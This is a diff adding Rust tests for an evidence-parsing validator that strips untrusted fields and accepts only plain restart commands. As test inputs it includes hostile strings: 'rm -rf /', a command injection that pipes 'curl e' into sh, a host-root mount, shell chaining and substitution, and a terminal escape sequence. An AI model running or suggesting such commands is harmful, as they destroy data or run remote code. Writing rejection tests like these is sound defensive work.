@@ -1,0 +1,87 @@
+use proptest::prelude::*;
+use unladen_trace::{ContainerSeen, GroupSeen, Interval, LogSeen, PathSeen, PhaseSeen, Response};
+
+use super::*;
+
+fn json(evidence: &Evidence) -> Vec<u8> {
+    serde_json::to_vec(evidence).unwrap()
+}
+
+#[test]
+fn what_only_the_sender_of_requests_can_know_is_not_believed() {
+    let mut told = Evidence {
+        host: Some("elsewhere".into()),
+        response: Some(Response::default()),
+        path: Some(PathSeen::default()),
+        left_out: vec!["x".into()],
+        sources: vec![EvidenceSource::Syscalls, EvidenceSource::Response, EvidenceSource::Syscalls],
+        groups: vec![GroupSeen {
+            name: "php".into(),
+            cpu: Some(Interval { value: 1e12, low: 1e12, high: 1e12 }),
+            on_path: true,
+            ..GroupSeen::default()
+        }],
+        ..Evidence::default()
+    };
+    told.page.url = "http://elsewhere/".into();
+    told.page.restart = Some("rm -rf /".into());
+    told.phases.push(PhaseSeen { on: true, duration_ns: 5, requests: 3 });
+    let kept = read_evidence(&json(&told), 1).unwrap();
+    assert_eq!(kept.page.url, "");
+    assert_eq!((kept.page.restart, kept.page.requests), (None, 3));
+    assert_eq!((kept.host, kept.response, kept.path), (None, None, None));
+    assert_eq!(kept.sources, [EvidenceSource::Syscalls]);
+    assert_eq!((kept.groups[0].cpu, kept.groups[0].on_path), (None, false));
+}
+
+#[test]
+fn no_text_tells_a_terminal_anything() {
+    let log = LogSeen { path: "/log\u{1b}[2J".into(), examples: vec!["a".repeat(20_000)], ..LogSeen::default() };
+    let container = |restart: &str| {
+        let container = ContainerSeen { restart: Some(restart.into()), ..ContainerSeen::default() };
+        GroupSeen { container: Some(container), ..GroupSeen::default() }
+    };
+    let groups = vec![container("docker restart shop_php-1"), container("docker restart x; curl e | sh")];
+    let kept = read_evidence(&json(&Evidence { logs: vec![log], groups, ..Evidence::default() }), 2).unwrap();
+    assert_eq!(kept.logs[0].path, "/log [2J");
+    assert_eq!(kept.logs[0].examples[0].len(), MAX_TEXT);
+    let restart = |index: usize| kept.groups[index].container.as_ref().unwrap().restart.as_deref();
+    assert_eq!((restart(0), restart(1)), (Some("docker restart shop_php-1"), None));
+}
+
+#[test]
+fn a_command_that_does_more_than_start_again_is_none() {
+    for command in [
+        "docker restart shop_php-1",
+        "docker compose -p shop restart php",
+        "systemctl --user -M joe@ restart web.service",
+        "machinectl reboot web",
+    ] {
+        assert!(is_restart(command), "{command}");
+    }
+    for command in [
+        "docker run -v /:/host restart",
+        "docker compose -p shop exec restart",
+        "podman restart web && sh",
+        "systemctl restart $(x)",
+        "sudo docker restart web",
+    ] {
+        assert!(!is_restart(command), "{command}");
+    }
+}
+
+#[test]
+fn evidence_of_something_else_is_refused() {
+    let error = |json: &[u8], groups| read_evidence(json, groups).unwrap_err().to_string();
+    assert_eq!(error(&json(&Evidence::default()), 2), "evidence of 0 groups, where 2 were asked for");
+    assert!(error(b"{\"groups\": 3}", 0).contains("evidence that is none"));
+    assert!(error(b"[[[[", 0).contains("evidence that is none"));
+    assert_eq!(error(&vec![b' '; MAX_EVIDENCE + 1], 0), "evidence of more than 32 MiB");
+}
+
+proptest! {
+    #[test]
+    fn whatever_comes_is_taken_or_refused(bytes in proptest::collection::vec(any::<u8>(), 0..400)) {
+        let _ = read_evidence(&bytes, 1);
+    }
+}
